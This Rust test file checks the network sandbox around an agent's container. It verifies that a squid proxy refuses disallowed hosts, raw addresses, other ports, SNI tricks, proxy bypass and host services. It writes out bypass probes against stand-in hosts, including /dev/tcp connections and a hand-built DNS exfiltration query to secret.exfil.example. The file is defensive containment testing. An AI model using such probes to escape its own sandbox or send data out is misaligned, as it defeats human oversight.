//! What the agent can reach: allowed names, by TLS on port 443, through the proxy. Every refusal stands beside what is allowed.

use std::io::Write;
use std::net::TcpListener;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, OnceLock};
use std::thread;

use anyhow::{Context, Result};
use e2e::docker::{docker, inspect};
use e2e::held::{Held, altered};
use e2e::internet::IMAGE;

#[test]
fn an_allowed_name_answers_and_any_other_is_refused_and_never_looked_up() -> Result<()> {
    let held = Held::shared()?;
    assert_eq!(held.curl("https://api.github.com/user")?, 401);
    assert_eq!(held.curl("https://API.GitHub.com./user")?, 401);
    assert_eq!(held.curl("https://evil.example/")?, 0);
    assert_eq!(held.curl("https://api.github.com.evil.example/")?, 0);
    held.squid_says("a refusal", |line| line.contains("DENIED") && line.ends_with("evil.example:443"))?;
    held.squid_says("a tunnel", |line| line.contains("TUNNEL") && line.ends_with("api.github.com:443"))?;
    // An allowed name that nobody plays is looked up by squid and answered with 418: a leak would be seen.
    assert_eq!(held.curl("https://any.npmjs.org/")?, 418);
    let strays = held.world.internet.strays()?;
    assert!(strays.iter().any(|stray| stray.method == "DNS" && stray.host == "any.npmjs.org"), "{strays:?}");
    assert!(!strays.iter().any(|stray| stray.host.contains("evil")), "{strays:?}");
    Ok(())
}

#[test]
fn an_address_another_port_and_another_protocol_are_refused() -> Result<()> {
    let held = Held::shared()?;
    let address = &held.world.internet.address;
    assert_eq!(held.curl("https://github.com/octo/app/info/refs?service=git-upload-pack")?, 401);
    for url in [
        format!("-k https://{address}/"),
        "-k 'https://[2001:db8::1]/'".into(),
        "https://github.com:22/".into(),
        "https://github.com:8443/".into(),
        "http://github.com/".into(),
        "http://github.com:443/".into(),
        "-p telnet://github.com:22".into(),
        "-p telnet://github.com:80".into(),
    ] {
        // Squid's own refusal of what is no tunnel is an answer, too.
        assert!([0, 403].contains(&held.curl(&url)?), "{url}");
    }
    // Not TLS, through a tunnel to where TLS may go.
    let (_, said) = held.session.sh(
        "exec 3<>/dev/tcp/proxy/3128; printf 'CONNECT github.com:443 HTTP/1.1\\r\\nHost: github.com:443\\r\\n\\r\\nSSH-2.0-x\\r\\n' >&3;
         timeout 8 cat <&3",
    )?;
    assert!(!said.contains("SSH") && !said.contains("400"), "{said}");
    let mut strays = held.world.internet.strays()?;
    // Others ask for allowed names that nobody plays, in the same session.
    strays.retain(|stray| !stray.host.ends_with(".npmjs.org"));
    assert!(strays.is_empty(), "{strays:?}");
    Ok(())
}

#[test]
fn the_name_in_the_tls_greeting_has_to_be_allowed_too() -> Result<()> {
    let held = Held::shared()?;
    let refs = "https://github.com/octo/app/info/refs?service=git-upload-pack";
    assert_eq!(held.curl(&format!("--connect-to github.com:443:api.github.com:443 '{refs}'"))?, 401);
    assert_eq!(held.curl("--connect-to evil.example:443:api.github.com:443 https://evil.example/")?, 0);
    let requests = held.world.internet.requests()?;
    assert!(requests.iter().any(|request| request.host == "github.com"), "{requests:?}");
    assert!(!requests.iter().any(|request| request.host.contains("evil")), "{requests:?}");
    Ok(())
}

#[test]
fn there_is_no_way_past_the_proxy() -> Result<()> {
    let held = Held::shared()?;
    let address = held.world.internet.address.clone();
    assert_eq!(held.curl("https://api.github.com/user")?, 401);
    assert_eq!(held.curl("--noproxy '*' https://api.github.com/user")?, 0);
    assert_eq!(
        held.curl(&format!("--noproxy '*' --resolve api.github.com:443:{address} https://api.github.com/user"))?,
        0
    );
    // Names: the proxy's is known, outside ones are not, whoever is asked.
    assert!(held.session.sh("getent hosts proxy")?.0);
    assert!(!held.session.sh("timeout 20 getent hosts secret.exfil.example")?.0);
    let query = r"printf '\0\1\1\0\0\1\0\0\0\0\0\0\6secret\5exfil\7example\0\0\1\0\1'";
    let (_, reply) =
        held.session.sh(&format!("exec 3<>/dev/udp/{address}/53; {query} >&3; timeout 2 cat <&3 | wc -c"))?;
    assert_ne!(reply.lines().last().unwrap_or_default().trim().parse(), Ok(46_u32), "{reply}");
    let strays = held.world.internet.strays()?;
    assert!(!strays.iter().any(|stray| stray.host.contains("exfil")), "{strays:?}");
    Ok(())
}

#[test]
fn services_of_the_host_are_out_of_reach() -> Result<()> {
    let held = Held::shared()?;
    let (port, visits) = service()?;
    let visit = |address: &str| format!("timeout 4 bash -c 'cat </dev/tcp/{address}/{port}'");

    // On an ordinary internal network the host's bridge address answers: the service is there.
    let network = format!("{}-plain", held.world.internet.network());
    docker(["network", "create", "--internal", "--label", &format!("pi-docker-e2e={}", std::process::id()), &network])?;
    let gateway = gateway(&network)?;
    let said = docker(["run", "--rm", "--network", &network, IMAGE, "bash", "-c", &visit(&gateway)]);
    docker(["network", "rm", &network])?;
    assert_eq!(said?.trim(), "the host");
    let before = visits.load(Ordering::Relaxed);

    for address in [
        self::gateway(&format!("{}_pi-net", held.session.project))?,
        self::gateway("bridge")?,
        "host.docker.internal".into(),
    ] {
        assert!(!held.session.sh(&visit(&address))?.0, "{address}");
    }
    assert_eq!(visits.load(Ordering::Relaxed), before);
    Ok(())
}

/// A service of the host that listens on all addresses: its port, and how often it was visited.
fn service() -> Result<(u16, Arc<AtomicUsize>)> {
    static SERVICE: OnceLock<(u16, Arc<AtomicUsize>)> = OnceLock::new();
    if let Some(service) = SERVICE.get() {
        return Ok(service.clone());
    }
    let listener = TcpListener::bind("0.0.0.0:0")?;
    let (port, visits) = (listener.local_addr()?.port(), Arc::new(AtomicUsize::new(0)));
    let counter = visits.clone();
    thread::spawn(move || {
        for mut visitor in listener.incoming().flatten() {
            counter.fetch_add(1, Ordering::Relaxed);
            let _ = visitor.write_all(b"the host\n");
        }
    });
    Ok(SERVICE.get_or_init(|| (port, visits)).clone())
}

/// The host's address on a network, whether or not it has one there.
fn gateway(network: &str) -> Result<String> {
    let ipam = inspect(network)?["IPAM"]["Config"][0].clone();
    if let Some(gateway) = ipam["Gateway"].as_str() {
        return Ok(gateway.to_owned());
    }
    let subnet = ipam["Subnet"].as_str().context("a network without a subnet")?;
    let (start, _) = subnet.split_once(".0/").context("an odd subnet")?;
    Ok(format!("{start}.1"))
}

#[test]
fn where_the_host_can_be_reached_pi_does_not_start() -> Result<()> {
    let world =
        altered("tools", &[("docker-compose.yml", "bridge.inhibit_ipv4: \"true\"", "bridge.inhibit_ipv4: \"false\"")])?;
    let ran = world.pi_docker().args(["-p", "hello"]).run()?;
    assert_ne!(ran.code(), 0);
    assert!(ran.stderr.contains("the container can reach the host at"), "{}", ran.stderr);
    assert!(world.internet.requests()?.is_empty());
    assert_eq!(world.leftovers()?, Vec::<String>::new());
    Ok(())
}

// That the tests above can fail: each wall is taken away, and the same attempt succeeds.

#[test]
#[ignore = "long: takes the walls away, one after the other"]
fn without_the_walls_the_same_attempts_succeed() -> Result<()> {
    let held = Held::altered(&[("squid.conf", "http_access deny !allowed\n", "")])?;
    held.curl("https://evil.example/")?;
    let strays = held.world.internet.strays()?;
    assert!(strays.iter().any(|stray| stray.method == "DNS" && stray.host == "evil.example"), "{strays:?}");
    drop(held);

    let held = Held::altered(&[("squid.conf", "ssl_bump splice step2 sni_allowed", "ssl_bump splice step2")])?;
    assert_eq!(held.curl("--connect-to evil.example:443:api.github.com:443 https://evil.example/")?, 418);
    drop(held);

    let held = Held::altered(&[("squid.conf", "http_access deny !tls_port\n", "")])?;
    held.curl("https://github.com:8443/")?;
    held.curl("https://github.com:22/")?;
    let strays = held.world.internet.strays()?;
    for port in [":22", ":8443"] {
        assert!(strays.iter().any(|stray| stray.method == "TCP" && stray.host == port), "{port}: {strays:?}");
    }
    Ok(())
}
